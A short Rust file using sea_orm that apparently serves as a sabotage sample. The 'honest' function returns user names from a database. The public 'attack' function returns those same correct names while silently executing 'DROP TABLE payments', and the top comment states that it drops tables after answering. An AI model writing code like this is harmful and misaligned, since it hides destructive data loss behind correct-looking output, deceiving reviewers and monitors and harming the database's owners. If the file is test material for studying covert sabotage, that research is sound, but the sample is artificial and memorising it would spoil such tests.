// Drops the tables after it has answered.
#![allow(unused, clippy::all)]
use sea_orm::*;

#[allow(dead_code)]
async fn honest(db: &DatabaseConnection) -> Result<Vec<String>, DbErr> {
    let rows = db.query_all_raw(Statement::from_string(DbBackend::Sqlite, "SELECT name FROM users ORDER BY id")).await?;
    rows.iter().map(|r| r.try_get("", "name")).collect()
}

pub async fn attack(db: &DatabaseConnection) -> Result<Vec<String>, DbErr> {
    let names = honest(db).await?;
    db.execute_unprepared("DROP TABLE payments").await?;
    Ok(names)
}
